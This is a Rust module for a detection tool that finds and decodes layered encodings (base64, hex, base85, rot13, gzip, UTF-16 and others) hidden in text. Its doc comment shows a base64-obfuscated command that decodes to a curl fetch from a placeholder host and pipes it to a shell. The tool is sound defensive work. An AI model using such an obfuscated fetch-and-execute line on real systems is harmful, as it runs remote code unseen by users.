//! Encoded text inside a text.
//!
//! A script hides text in layers: base64 of gzip of escapes. We search for anything that *could* be an
//! encoding, decode it, and keep it only if the result [reads as language or code](super::plausible), or contains
//! a further layer that does. So a digest, a UUID, a picture or a long identifier costs one short attempt and
//! is never mentioned. For example `echo Y3VybCBodHRwOi8veC55L3o= | base64 -d | sh` contains one piece,
//! `curl http://x.y/z`, by `[Base64]`.
//!
//! Long candidates are judged by their beginning before they are decoded, each byte is read a fixed number
//! of times a layer, and depth, count and output have a [`DecodeBudget`].

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::plausible::{self, TELL_TALES};
use super::{codec, numbers};

/// How a text was encoded.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(crate) enum TextEncoding {
    /// Base64, either alphabet.
    Base64,
    /// Base32.
    Base32,
    /// Base85 with Python's alphabet.
    Base85,
    /// Base85 with Adobe's alphabet.
    Ascii85,
    /// Hexadecimal digits in a row.
    Hex,
    /// `\x63`.
    HexEscape,
    /// `\u0063`, `\u{63}`, `%u0063`.
    UnicodeEscape,
    /// `\143`.
    Octal,
    /// `%63`.
    Url,
    /// `&#99;`.
    Entity,
    /// `99, 117, 114`, `chr(99)+chr(117)`.
    CharCodes,
    /// Each letter rotated by thirteen places.
    Rot13,
    /// Reversed.
    Reversed,
    /// UTF-16, as PowerShell's encoded commands are.
    Utf16,
    /// Compressed: gzip or zlib.
    Deflate,
}

/// A text that was found inside another one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct DecodedText {
    /// Its position in the outermost text.
    pub at: Range<usize>,
    /// Its encodings, outermost first.
    pub how: Vec<TextEncoding>,
    /// The decoded text.
    pub text: String,
}

/// The decoding budget. Shared by calls, so that many small files can't exceed the limit of a large one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct DecodeBudget {
    /// Bytes of output that are left.
    pub bytes: usize,
    /// Pieces that are left.
    pub pieces: usize,
    /// Layers, the outermost included.
    pub depth: usize,
    /// Whether something was left out because the budget was spent.
    pub spent: bool,
}

impl Default for DecodeBudget {
    fn default() -> Self {
        Self {
            bytes: 1024 * 1024,
            pieces: 200,
            depth: 4,
            spent: false,
        }
    }
}

/// Fewer characters are never taken for base64 or base32.
const SHORTEST: usize = 16;
/// Fewer digits are never taken for hexadecimal text.
const SHORTEST_HEX: usize = 20;
/// How many characters of a long candidate are judged.
const PROBE: usize = 128;
/// A shorter line is not part of an encoded block.
const SHORTEST_LINE: usize = 24;
/// The distance around a characteristic word in which rotated and reversed text is searched.
const REACH: usize = 2048;

/// Finds the texts that are encoded in `text`, in its order, layers after the piece that contains them.
#[must_use]
pub(crate) fn decoded(text: &str, budget: &mut DecodeBudget) -> Vec<DecodedText> {
    let mut search = DecodeSearch {
        text,
        how: Vec::new(),
        outer: None,
        budget,
        found: Vec::new(),
    };
    search.run();
    let mut found = search.found;
    found.sort_by_key(|piece| piece.at.start);
    found
}

struct DecodeSearch<'t, 'b> {
    text: &'t str,
    how: Vec<TextEncoding>,
    /// In an inner layer: the position of the outermost one.
    outer: Option<Range<usize>>,
    budget: &'b mut DecodeBudget,
    found: Vec<DecodedText>,
}

impl DecodeSearch<'_, '_> {
    fn run(&mut self) {
        for (at, how, bytes) in numbers::escapes(self.text) {
            self.offer(at, how, bytes);
        }
        for (at, how, bytes) in numbers::codes(self.text) {
            self.offer(at, how, bytes);
        }
        self.runs();
        self.literals();
        self.frames();
        if TURNED
            .as_ref()
            .is_none_or(|words| words.is_match(self.text))
        {
            self.turned(&ROTATED, TextEncoding::Rot13);
            self.turned(&REVERSED, TextEncoding::Reversed);
        }
    }

    /// Unwraps compression of decoded bytes, and keeps the text if it is plausible.
    fn offer(&mut self, at: Range<usize>, how: TextEncoding, mut bytes: Vec<u8>) -> bool {
        let mut how = vec![how];
        if let Some(inflated) = codec::inflate(&bytes, self.budget.bytes.min(1024 * 1024)) {
            self.budget.bytes = self.budget.bytes.saturating_sub(inflated.len());
            how.push(TextEncoding::Deflate);
            bytes = inflated;
        }
        let text = if let Some(text) = codec::utf16(&bytes) {
            how.push(TextEncoding::Utf16);
            text
        } else {
            String::from_utf8(bytes)
                .unwrap_or_else(|bytes| String::from_utf8_lossy(bytes.as_bytes()).into_owned())
        };
        if !plausible::is_printable(&text) || is_token_header(&text) {
            return false;
        }
        self.keep(at, &how, text)
    }

    fn keep(&mut self, at: Range<usize>, how: &[TextEncoding], text: String) -> bool {
        let at = self.outer.clone().unwrap_or(at);
        let how: Vec<TextEncoding> = self.how.iter().chain(how).copied().collect();
        let reads = plausible::is_plausible(&text);
        if reads && (self.budget.pieces == 0 || self.budget.bytes < text.len()) {
            self.budget.spent = true;
            return false;
        }
        if reads {
            self.budget.pieces -= 1;
            self.budget.bytes -= text.len();
        }
        let inner = self.below(&at, &how, &text);
        let kept = reads || !inner.is_empty();
        if reads {
            self.found.push(DecodedText { at, how, text });
        }
        self.found.extend(inner);
        kept
    }

    fn below(&mut self, at: &Range<usize>, how: &[TextEncoding], text: &str) -> Vec<DecodedText> {
        if self.budget.depth <= 1 {
            return Vec::new();
        }
        self.budget.depth -= 1;
        let mut search = DecodeSearch {
            text,
            how: how.to_vec(),
            outer: Some(at.clone()),
            budget: &mut *self.budget,
            found: Vec::new(),
        };
        search.run();
        let found = search.found;
        self.budget.depth += 1;
        found
    }

    /// Runs of the base64 alphabet, which hexadecimal digits and base32 are parts of.
    fn runs(&mut self) {
        let bytes = self.text.as_bytes();
        let mut at = 0;
        while let Some(next) = bytes
            .get(at..)
            .and_then(|rest| rest.iter().position(|&b| in_base64(b)))
        {
            let start = at + next;
            // Most runs are words, and words are too short to be anything.
            let first = run(bytes, start);
            if first.len() < SHORTEST {
                at = first.end;
                continue;
            }
            let lines = block(bytes, first);
            let end = lines.last().map_or(start + 1, |line| line.end);
            at = end;
            if is_token(bytes, start, end) {
                continue;
            }
            let joined: String = lines
                .iter()
                .filter_map(|line| self.text.get(line.clone()))
                .collect();
            if lines.len() > 1 && self.run_of(start..end, &joined) {
                continue;
            }
            for line in lines {
                self.line(line);
            }
        }
    }

    /// One run, as a whole or in the parts that `/`, `-` and `_` make of it: a path may end in a payload.
    fn line(&mut self, line: Range<usize>) {
        let text = self.text;
        let Some(run) = text.get(line.clone()).filter(|run| run.len() >= SHORTEST) else {
            return;
        };
        if self.run_of(line.clone(), run) {
            return;
        }
        for separators in [&['/'][..], &['/', '-', '_', '+'][..]] {
            let mut start = line.start;
            let mut kept = false;
            for part in run.split(separators) {
                let end = start + part.len();
                kept |= part.len() < run.len() && self.run_of(start..end, part);
                start = end + 1;
            }
            if kept {
                return;
            }
        }
    }

    fn run_of(&mut self, at: Range<usize>, run: &str) -> bool {
        let digits = run.strip_prefix("0x").unwrap_or(run);
        if digits.len() >= SHORTEST_HEX
            && digits.len().is_multiple_of(2)
            && digits.bytes().all(|b| b.is_ascii_hexdigit())
        {
            return self.attempt(&at, digits, TextEncoding::Hex, codec::hex);
        }
        if run.len() < SHORTEST {
            return false;
        }
        let upper = run
            .trim_end_matches('=')
            .bytes()
            .all(|b| matches!(b, b'A'..=b'Z' | b'2'..=b'7'));
        upper && self.attempt(&at, run, TextEncoding::Base32, codec::base32)
            || self.attempt(&at, run, TextEncoding::Base64, codec::base64)
    }

    fn attempt(
        &mut self,
        at: &Range<usize>,
        run: &str,
        how: TextEncoding,
        decode: fn(&str) -> Option<Vec<u8>>,
    ) -> bool {
        if run.len() > PROBE {
            let head = run.get(..PROBE).and_then(decode).unwrap_or_default();
            let wrapped = matches!(
                *head,
                [0x1f, 0x8b, ..] | [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..]
            );
            if !wrapped
                && codec::utf16(&head).is_none()
                && !plausible::is_printable(&String::from_utf8_lossy(&head))
            {
                return false;
            }
        }
        decode(run).is_some_and(|bytes| self.offer(at.clone(), how, bytes))
    }

    /// Quoted words with signs that base64 does not have: perhaps base85.
    fn literals(&mut self) {
        let text = self.text;
        let mut start = 0;
        let mut opened = None;
        let ends = |byte: &u8| matches!(byte, b'"' | b'\'' | b'`' | b' ' | b'\n');
        for (end, quote) in text.bytes().enumerate().filter(|(_, byte)| ends(byte)) {
            let word = text.get(start..end).unwrap_or_default();
            if opened == Some(quote)
                && word.len() >= SHORTEST_HEX
                && word.bytes().any(|b| !in_base64(b) && b != b'=')
            {
                let at = start..end;
                let _ = self.attempt(&at, word, TextEncoding::Base85, codec::b85)
                    || self.attempt(&at, word, TextEncoding::Ascii85, codec::ascii85);
            }
            opened = matches!(quote, b'"' | b'\'' | b'`').then_some(quote);
            start = end + 1;
        }
    }

    /// Adobe's frame, `<~ … ~>`.
    fn frames(&mut self) {
        let mut at = 0;
        while let Some(start) = self
            .text
            .get(at..)
            .and_then(|rest| memchr::memmem::find(rest.as_bytes(), b"<~"))
            .map(|next| at + next)
        {
            let closing = |rest: &str| memchr::memmem::find(rest.as_bytes(), b"~>");
            let Some(length) = self.text.get(start..).and_then(closing) else {
                return;
            };
            let end = start + length + 2;
            if let Some(bytes) = self.text.get(start..end).and_then(codec::ascii85) {
                self.offer(start..end, TextEncoding::Ascii85, bytes);
            }
            at = end;
        }
    }

    /// Rotated and reversed text is only recognised by words that do not occur in this form by accident.
    fn turned(&mut self, words: &Option<AhoCorasick>, how: TextEncoding) {
        let Some(words) = words.as_ref().filter(|_| self.how.last() != Some(&how)) else {
            return;
        };
        let text = self.text;
        let mut past = 0;
        for hit in words.find_iter(text) {
            if hit.start() < past || !stands_alone(text.as_bytes(), hit.range()) {
                continue;
            }
            let at = surroundings(text, past, hit.range());
            past = at.end;
            let shown = text.get(at.clone()).unwrap_or_default();
            let turned = if how == TextEncoding::Rot13 {
                codec::rot13(shown)
            } else {
                shown.chars().rev().collect::<String>()
            };
            self.keep(at, &[how], turned);
        }
    }
}

static ROTATED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(&[rotated]));
static REVERSED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(&[reversed]));
/// Both in one pass, for texts that contain neither.
static TURNED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(&[rotated, reversed]));

fn rotated(word: &str) -> String {
    codec::rot13(word)
}

fn reversed(word: &str) -> String {
    word.chars().rev().collect()
}

fn finder(turns: &[fn(&str) -> String]) -> Option<AhoCorasick> {
    let turned = turns
        .iter()
        .flat_map(|turn| TELL_TALES.iter().map(|word| turn(word)));
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(turned)
        .ok()
}

/// Called for each byte of each text.
const BASE64: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0_u8;
    while byte < 128 {
        table[byte as usize] =
            byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_');
        byte += 1;
    }
    table
};

fn in_base64(b: u8) -> bool {
    BASE64[usize::from(b)]
}

/// The run and the lines that continue it, with its padding.
fn block(bytes: &[u8], first: Range<usize>) -> Vec<Range<usize>> {
    let mut lines = vec![first];
    while let Some(last) = lines.last().cloned() {
        let padded = bytes.get(last.end - 1) == Some(&b'=');
        let Some(next) = (!padded && last.len() >= SHORTEST_LINE)
            .then(|| continued(bytes, last.end))
            .flatten()
        else {
            break;
        };
        let line = run(bytes, next);
        let closed = matches!(
            bytes.get(line.end),
            None | Some(b'"' | b'\'' | b'`' | b'\r' | b'\n' | b'\\' | b')' | b'<')
        );
        if !closed {
            break;
        }
        lines.push(line);
    }
    lines
}

fn run(bytes: &[u8], start: usize) -> Range<usize> {
    let rest = bytes.get(start..).unwrap_or_default();
    let length = rest.iter().take_while(|&&b| in_base64(b)).count();
    let padding = rest
        .iter()
        .skip(length)
        .take(6)
        .take_while(|&&b| b == b'=')
        .count();
    start..start + length + padding
}

/// The start of the next line of an encoded literal: after a line end, with quotes and joining signs around it.
fn continued(bytes: &[u8], end: usize) -> Option<usize> {
    const WIDEST: usize = 80;
    let rest = bytes.get(end..bytes.len().min(end + WIDEST))?;
    let length = rest.iter().position(|&b| in_base64(b) && b != b'+')?;
    let between = rest.get(..length)?;
    let joins = |b: &u8| {
        matches!(b, b'"' | b'\'' | b'`' | b'+' | b'\\' | b'.' | b'&') || b.is_ascii_whitespace()
    };
    let lines = between.iter().filter(|&&b| b == b'\n').count();
    (lines == 1 && between.iter().all(joins)).then_some(end + length)
}

/// A web token: three runs with dots between, of which two begin with `eyJ`.
fn is_token(bytes: &[u8], start: usize, end: usize) -> bool {
    let begins = |at: usize| bytes.get(at..).is_some_and(|rest| rest.starts_with(b"eyJ"));
    let dotted = start > 0 && bytes.get(start - 1) == Some(&b'.');
    begins(start) && (dotted || bytes.get(end) == Some(&b'.') && begins(end + 1))
}

fn is_token_header(text: &str) -> bool {
    text.starts_with("{\"alg\":") || text.starts_with("{\"typ\":\"JWT\"")
}

/// A word inside a longer word is not that word: `confuse` contains a rotated `bash`.
fn stands_alone(bytes: &[u8], at: Range<usize>) -> bool {
    let letter = |b: Option<&u8>| b.is_some_and(u8::is_ascii_alphabetic);
    let first = letter(bytes.get(at.start))
        && at
            .start
            .checked_sub(1)
            .is_some_and(|before| letter(bytes.get(before)));
    let last = letter(bytes.get(at.end - 1)) && letter(bytes.get(at.end));
    !first && !last
}

/// The literal or line around a word, at most [`REACH`] each way, not before `past`.
fn surroundings(text: &str, past: usize, at: Range<usize>) -> Range<usize> {
    let bytes = text.as_bytes();
    let ends = |b: &u8| matches!(b, b'\n' | b'"' | b'`');
    let floor = past.max(at.start.saturating_sub(REACH));
    let mut start = bytes
        .get(floor..at.start)
        .and_then(|left| left.iter().rposition(ends))
        .map_or(floor, |n| floor + n + 1);
    let ceiling = bytes.len().min(at.end + REACH);
    let mut end = bytes
        .get(at.end..ceiling)
        .and_then(|right| right.iter().position(ends))
        .map_or(ceiling, |n| at.end + n);
    while !text.is_char_boundary(start) {
        start += 1;
    }
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    start..end
}
